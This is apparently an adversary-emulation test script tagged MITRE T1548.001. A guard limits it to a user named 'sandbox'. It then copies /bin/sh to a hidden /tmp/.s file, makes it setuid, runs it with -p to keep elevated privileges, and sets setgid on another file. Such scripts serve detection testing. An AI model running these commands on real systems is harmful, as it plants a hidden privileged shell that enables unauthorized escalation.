#!/bin/sh
# technique: T1548.001
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

cp /bin/sh /tmp/.s; chmod u+s /tmp/.s; chmod 4755 /tmp/.s; /tmp/.s -p -c id; touch x; chmod g+s x
